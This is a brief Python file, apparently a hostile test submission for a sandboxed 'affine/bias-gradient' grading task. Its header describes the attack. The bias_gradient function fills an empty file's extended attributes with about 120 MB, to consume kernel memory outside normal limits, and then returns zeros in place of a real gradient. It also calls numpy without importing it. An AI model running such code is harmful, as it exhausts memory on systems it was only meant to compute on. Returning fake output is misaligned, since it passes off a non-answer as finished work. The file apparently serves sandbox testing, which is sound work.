# Tries: keeps megabytes in the attributes of an empty file, which is memory of the kernel
# Attacks: affine/bias-gradient
# Class: own
# %%
import os

def bias_gradient(dY):
    open("file", "w").close()
    for number in range(2000):
        os.setxattr("file", f"user.{number}", b"x" * 60000)
    return np.zeros(dY.shape[1])
